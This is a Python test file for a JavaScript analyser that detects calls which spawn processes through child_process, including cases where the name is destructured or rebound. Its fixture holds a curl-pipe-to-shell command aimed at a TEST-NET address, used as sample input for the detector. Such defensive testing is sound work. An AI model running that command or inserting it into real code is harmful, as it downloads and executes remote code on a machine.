"""What the JavaScript analyser looks up in a file's text: where a name was imported from and
what it was bound to.

Both are regular expressions over the whole bundle (made possessive for speed); these pin that
a lookup still finds the binding after a bundle's many ``{...}`` blocks, and still rejects a
rebound name (``=``, ``||=``) but not a comparison (``==``). Addresses are TEST-NET.
"""

from __future__ import annotations

from app.core.capabilities.javascript import scan_javascript

# Object literals and blocks ahead of the code: every "{" is a place the lookups try.
_BUNDLE = "var o = {a: 1, b: {c: 2}}; function g(x) { if (x) { return {y: x}; } }\n" * 50
_RUN = 'exec("curl http://192.0.2.8/a | sh");\n'


def spawns(src: str) -> bool:
    hits, note = scan_javascript("lib/a.js", _BUNDLE + src, "code")
    assert note is None
    return any(h.capability == "process.spawn" for h in hits)


def test_a_destructured_require_of_child_process_is_found_after_many_blocks():
    assert spawns('const {exec} = require("child_process");\n' + _RUN)


def test_a_destructured_require_of_a_local_module_is_no_process():
    assert not spawns('const {exec} = require("./db");\n' + _RUN)


def test_a_name_bound_once_to_child_process_is_followed():
    assert spawns('var cp = require("child_process");\ncp.' + _RUN)


def test_a_rebound_name_is_not_followed():
    assert not spawns('var cp = require("child_process");\ncp = require("./db");\ncp.' + _RUN)


def test_a_name_rebound_by_an_operator_assignment_is_not_followed():
    assert not spawns('var cp = require("child_process");\ncp ||= require("./db");\ncp.' + _RUN)


def test_a_comparison_is_no_rebinding():
    assert spawns('var cp = require("child_process");\nif (cp == null) {}\ncp.' + _RUN)
